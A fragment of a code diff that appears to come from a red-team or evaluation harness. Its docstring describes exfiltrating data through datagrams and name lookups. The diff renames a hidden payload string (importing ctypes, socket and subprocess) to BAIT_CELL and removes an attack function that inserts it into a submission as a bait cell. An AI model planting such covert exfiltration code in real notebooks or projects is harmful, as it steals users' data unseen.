@@ -1,6 +1,6 @@
 """Sends datagrams and asks for names, which carries data out in the name itself."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import ctypes, socket, subprocess
 
 
@@ -23,7 +23,3 @@ tried(
     ),
 )
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
